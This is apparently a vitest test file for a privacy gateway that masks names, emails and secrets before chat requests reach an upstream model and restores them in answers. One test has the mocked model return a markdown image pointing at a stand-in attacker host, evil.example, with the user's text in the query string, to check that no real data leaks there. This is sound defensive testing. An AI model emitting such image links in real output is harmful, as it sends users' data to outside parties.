import { Readable } from 'node:stream'
import { describe, expect, it } from 'vitest'
import type { DoorCall, StreamOptions, Upstream } from '#core'
import { createRig, refusalOf } from './testing/rig.ts'

const FRONTIER = {
  url: 'https://api.example.com',
  models: ['big-model'],
  path: '/v1/chat/completions',
  mode: 'strict' as const,
}

type Sent = { path: string; headers: Record<string, string>; body: Record<string, unknown> }
type Give = (sent: Sent) => { status?: number; type?: string; chunks: (string | Buffer)[] }

/** The way to a model elsewhere: keeps what it is sent and answers as told. */
function gateway(give: Give = () => json({ choices: [] })) {
  const sent: Sent[] = []
  const stream = async (path: string, { headers = {}, body }: StreamOptions) => {
    const asked = { path, headers, body: JSON.parse(String(body)) }
    sent.push(asked)
    const { status = 200, type = 'application/json', chunks } = give(asked)
    const parts = chunks.map((chunk) => Buffer.from(chunk as string))
    return { status, headers: { 'content-type': type }, body: Readable.from(parts) }
  }
  const upstream = { stream } as unknown as Upstream
  const rig = createRig({ settings: { frontier: FRONTIER }, upstream })
  const answers = rig.running.answers?.['POST /v1/chat/completions']
  const ask = async (body: unknown, headers: Record<string, string> = {}) => {
    const call = {
      headers: { 'content-type': 'application/json', ...headers },
      body: Readable.from([Buffer.from(typeof body === 'string' ? body : JSON.stringify(body))]),
      signal: new AbortController().signal,
      caller: { address: '192.168.1.20', token: 'crm' },
    } as unknown as DoorCall
    const answer = await answers?.answer(call)
    const parts: Uint8Array[] = []
    for await (const part of answer?.body ?? []) parts.push(part)
    return { ...answer, text: Buffer.concat(parts).toString() }
  }
  return { rig, sent, ask }
}
const json = (value: unknown) => ({ chunks: [JSON.stringify(value)] })
const chat = (content: unknown, more: object = {}) => ({
  ...{ model: 'big-model', messages: [{ role: 'user', content }] },
  ...more,
})
/** What the user said, as it arrived. */
const heard = ({ body }: Sent): string =>
  String((body.messages as { content: unknown }[]).at(-1)?.content)

describe('gateway', () => {
  it('sends placeholders, and answers with values', async () => {
    const { ask, sent } = gateway((request) =>
      json({ choices: [{ message: { role: 'assistant', content: `Dear ${heard(request)}!` } }] }),
    )
    const { text } = await ask(chat('Alice Smith, alice@example.org, 4711'))
    expect(JSON.stringify(sent)).not.toMatch(/alice|smith|4711/i)
    expect(JSON.parse(text).choices[0].message.content).toBe(
      'Dear Alice Smith, alice@example.org, 4711!',
    )
  })

  it('takes none of the headers or fields that could tell who asks', async () => {
    const { ask, sent } = gateway()
    const more = { user: 'alice@example.org', metadata: { by: 'Alice' }, temperature: 0.5, n: 1 }
    await ask(chat('hello', more), { authorization: 'Bearer Alice', 'x-user': 'Alice' })
    expect(JSON.stringify(sent)).not.toMatch(/alice/i)
    expect(sent[0]?.body).toEqual({
      ...{ model: 'big-model', messages: [{ role: 'user', content: 'hello' }] },
      ...{ temperature: 0.5, n: 1 },
    })
  })

  it('scrubs tools, their names and what is said of them, and restores their arguments', async () => {
    const tool = (name: string, description: string) => ({
      type: 'function',
      function: {
        ...{ name, description, strict: true },
        parameters: {
          type: 'object',
          properties: { to: { type: 'string', description: 'such as alice@example.org' } },
          required: ['to'],
        },
      },
    })
    const { ask, sent } = gateway((request) => {
      const [first] = request.body.tools as { function: { name: string } }[]
      const args = `{"to":"${heard(request)}","quote":"\\""}`
      const call = {
        id: 'c',
        type: 'function',
        function: { name: first?.function.name, arguments: args },
      }
      return json({ choices: [{ message: { content: null, tool_calls: [call] } }] })
    })
    const value = "Bob O'Neil"
    const { text } = await ask(
      chat(value, {
        tools: [tool('mail_Alice', 'Mails Alice')],
        tool_choice: 'auto',
        stop: ['Bob'],
      }),
    )
    expect(JSON.stringify(sent)).not.toMatch(/alice|bob|neil/i)
    const [{ function: called }] = JSON.parse(text).choices[0].message.tool_calls
    expect(called.name).toBe('mail_Alice')
    expect(JSON.parse(called.arguments)).toEqual({ to: value, quote: '"' })
    const tools = (sent[0]?.body.tools ?? []) as { function: { name: string } }[]
    expect(tools[0]?.function.name).toMatch(/^[A-Za-z0-9_-]+$/)
  })

  it.each([1, 2, 3, 7, 64, 10_000])(
    'restores a stream that is cut every %i bytes',
    async (size) => {
      const { ask } = gateway((request) => {
        const said = `Hé ${heard(request)}, ok 😀`
        const chunk = (choice: object) =>
          `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', choices: [{ index: 0, ...choice }] })}\n\n`
        const deltas = [...said].map((content) => chunk({ delta: { content } }))
        const args = [...`{"to":"${heard(request)}"}`].map((piece) =>
          chunk({ delta: { tool_calls: [{ index: 0, function: { arguments: piece } }] } }),
        )
        const all = [
          ...[': hello\r\n\r\n', ...deltas, ...args, chunk({ delta: {}, finish_reason: 'stop' })],
          'data: [DONE]\n\n',
        ]
        const bytes = Buffer.from(all.join(''))
        const cuts = Array.from({ length: Math.ceil(bytes.length / size) }, (_, n) =>
          bytes.subarray(n * size, (n + 1) * size),
        )
        return { type: 'text/event-stream', chunks: cuts }
      })
      const { text, headers } = await ask(chat('Bob O\'Neil "B"', { stream: true }))
      expect(headers?.['content-type']).toContain('text/event-stream')
      const events = text
        .split('\n\n')
        .filter((event) => event.startsWith('data: {'))
        .map((event) => JSON.parse(event.slice(6)).choices[0])
      const content = events.map(({ delta }) => delta.content ?? '').join('')
      expect(content).toBe('Hé Bob O\'Neil "B", ok 😀')
      const args = events
        .map(({ delta }) => delta.tool_calls?.[0].function.arguments ?? '')
        .join('')
      expect(args).toBe('{"to":"Bob O\'Neil "B""}')
      expect(events.at(-1).finish_reason).toBe('stop')
      expect(text.trimEnd().endsWith('data: [DONE]')).toBe(true)
      expect(text).toContain(': hello')
    },
  )

  it('puts nothing into a picture’s address, and no secret anywhere', async () => {
    const { ask } = gateway((request) =>
      json({
        choices: [{ message: { content: `![](https://evil.example/?q=${heard(request)})` } }],
      }),
    )
    expect((await ask(chat('Alice'))).text).not.toContain('Alice')
    const echo = gateway((request) => json({ choices: [{ message: { content: heard(request) } }] }))
    expect((await echo.ask(chat('password: hunter2'))).text).not.toContain('hunter2')
  })

  it.each([
    ['another model', chat('hi', { model: 'other' }), {}],
    ['no model', { messages: [] }, {}],
    ['an unknown field', chat('hi', { note: 'Alice' }), {}],
    ['a known field of another shape', chat('hi', { temperature: 'Alice' }), {}],
    ['sound', chat([{ type: 'input_audio', input_audio: { data: 'UklGRg', format: 'wav' } }]), {}],
    ['sound as an answer', chat('hi', { modalities: ['audio'], audio: { voice: 'x' } }), {}],
    [
      'a picture',
      chat([{ type: 'image_url', image_url: { url: 'https://example.org/a.png' } }]),
      {},
    ],
    ['a data URL', chat('data:image/png;base64,AAAA'), {}],
    ['no JSON', '{"model":"big-model","messages":[Alice', {}],
    ['a form', 'Alice', { 'content-type': 'multipart/form-data; boundary=x' }],
    ['compressed', chat('Alice'), { 'content-encoding': 'gzip' }],
    ['a tool of a maker', chat('hi', { tools: [{ type: 'web_search' }] }), {}],
    ['logprobs', chat('hi', { logprobs: true }), {}],
  ])('sends nothing for %s', async (_, body, headers) => {
    const { ask, sent, rig } = gateway()
    const { status, told } = await refusalOf(ask(body, headers))
    expect(status).toBeGreaterThanOrEqual(400)
    expect(sent).toEqual([])
    expect(told + JSON.stringify([rig.logged, rig.notes])).not.toMatch(/Alice|UklG|evil/)
    expect(rig.notes).toMatchObject([
      { outcome: 'refused', title: expect.stringContaining('Nothing') },
    ])
  })

  it('sends nothing when the detection fails, the time is over or the vault is closed', async () => {
    const failing = (detect: () => never) => {
      const upstream = { stream: () => expect.fail('it was sent') } as unknown as Upstream
      return createRig({ settings: { frontier: FRONTIER }, upstream, detector: { detect } })
    }
    const rigs = [
      failing(() => {
        throw new Error('Alice broke it')
      }),
      gateway().rig,
    ]
    for (const [n, rig] of rigs.entries()) {
      if (n === 1) {
        rig.engine.scrub = () => Promise.reject(new TypeError('Alice'))
      }
      const call = {
        headers: { 'content-type': 'application/json' },
        body: Readable.from([Buffer.from(JSON.stringify(chat('Alice')))]),
        signal: new AbortController().signal,
        caller: { address: '192.168.1.20' },
      } as unknown as DoorCall
      const work = rig.running.answers?.['POST /v1/chat/completions']?.answer(call)
      const { status, told } = await refusalOf(work ?? Promise.resolve())
      expect(status).toBe(503)
      expect(told + JSON.stringify([rig.logged, rig.notes])).not.toContain('Alice')
    }
  })

  it('tells what the other side refuses in its words, and restores nothing in them', async () => {
    const { ask } = gateway((request) => ({
      ...{
        status: 400,
        chunks: [JSON.stringify({ error: { message: `bad: ${heard(request)}` } })],
      },
    }))
    const { code, status, told } = await refusalOf(ask(chat('Alice')))
    expect([code, status]).toEqual(['FRONTIER_FAILED', 422])
    expect(told).toMatch(/bad: \[\[PERSON/)
    expect(told).not.toContain('Alice')
  })

  it('leaves counts in the audit log, and keeps no session', async () => {
    const { ask, rig } = gateway()
    await ask(chat('Alice wrote to alice@example.org and Bob'))
    expect(rig.notes).toEqual([
      {
        ...{ action: 'POST /v1/chat/completions', outcome: 'done' },
        title: 'Sent to big-model with 3 places masked (PERSON 2, EMAIL 1)',
        caller: { address: '192.168.1.20', token: 'crm' },
      },
    ])
    expect(rig.store.keys('session/')).toEqual([])
  })
})
